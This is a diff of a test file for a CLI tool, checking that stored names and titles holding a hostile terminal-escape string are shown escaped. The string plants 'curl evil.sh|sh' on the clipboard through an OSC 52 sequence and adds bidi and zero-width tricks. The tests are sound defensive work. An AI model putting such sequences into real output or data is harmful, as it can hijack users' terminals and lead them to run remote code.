@@ -5,10 +5,9 @@ import { until } from '../helpers/screen';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { StoreData } from '../../src/store/index';
-import { openStore } from '../../src/store/index';
 import { runCli } from '../helpers/runCli';
 import { person, registration } from '../helpers/people';
-import { tempDir } from '../helpers/tempStore';
+import { tempDir, trustedSeed } from '../helpers/tempStore';
 
 const H = '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\u009b31m\u202e\u2066\b\b\u200b\u00ad\ufeff\x7f';
 // Pieces of H that must never reach the screen raw (inquirer's own CSI sequences are allowed).
@@ -18,10 +17,12 @@ function expectNoHostileFragment(raw: string): void {
   for (const f of FRAGMENTS) expect(raw.includes(f), `U+${f.codePointAt(0)!.toString(16)} on screen`).toBe(false);
 }
 
+/** The env under which caprural trusts the store (hostile e-mails no command would store: a hand-made store would be refused by changes). */
+let trustEnv: Record<string, string> = {};
 async function hostileStore(): Promise<string> {
   const store = join(tempDir(), 'store.json');
   await runCli(['init'], { store });
-  await openStore(store, { now: () => new Date('2018-02-01T10:00:00.000Z') }).update((data: StoreData) => {
+  trustEnv = await trustedSeed(store, (data: StoreData) => {
     data.organisations.push({ id: 'gal-h', name: `GAL ${H}`, kind: 'GAL', territory: null });
     data.members.push(person('ana-lopez', `Ana${H}`, 'Lopez', { email: `ana${H}@x.fr`, organisationId: 'gal-h', createdAt: '2017-01-02T09:00:00.000Z' }));
     data.sessions.find((s) => s.id === 'cooperer-leader-n1-2018')!.title = `Coopérer ${H}`;
@@ -79,7 +80,7 @@ describe('prompts show stored values escaped', () => {
     screen.keypress({ name: 'c', ctrl: true });
     expect((await running).code).toBe(130);
 
-    await runCli(['member', 'add', '--first', 'Bea', '--last', 'Lopez', '--email', 'bea@x.fr', '--org', 'gal-h'], { store });
+    await runCli(['member', 'add', '--first', 'Bea', '--last', 'Lopez', '--email', 'bea@x.fr', '--org', 'gal-h'], { store, env: trustEnv });
     running = runCli(['member', 'show', 'Lopez'], { store, tty: true });
     await until('which one?');
     expect(screen.getScreen()).toContain('GAL \\e]52;c;');
@@ -87,7 +88,7 @@ describe('prompts show stored values escaped', () => {
     screen.keypress({ name: 'c', ctrl: true });
     expect((await running).code).toBe(130);
 
-    running = runCli(['cancel', '--session', 'cooperer-leader-n1-2018', '--member', 'ana-lopez'], { store, tty: true });
+    running = runCli(['cancel', '--session', 'cooperer-leader-n1-2018', '--member', 'ana-lopez'], { store, tty: true, env: trustEnv });
     await until('Cancel the registration of Ana');
     expectNoHostileFragment(screen.getScreen({ raw: true }));
     screen.keypress('enter');
